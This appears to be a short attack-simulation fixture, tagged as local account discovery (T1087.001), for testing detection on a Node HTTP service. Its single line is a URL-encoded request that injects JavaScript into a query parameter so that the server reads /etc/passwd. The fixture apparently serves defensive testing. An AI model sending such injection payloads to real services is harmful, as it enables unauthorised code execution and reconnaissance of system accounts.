# title: a service reads the list of accounts itself
# attack: T1087.001
# workload: node
# through: http
# shows: file read /etc/passwd by node
GET http://127.0.0.1:3000/total?of=require(%27fs%27).readFileSync(%27%2Fetc%2Fpasswd%27%2C%27utf8%27)
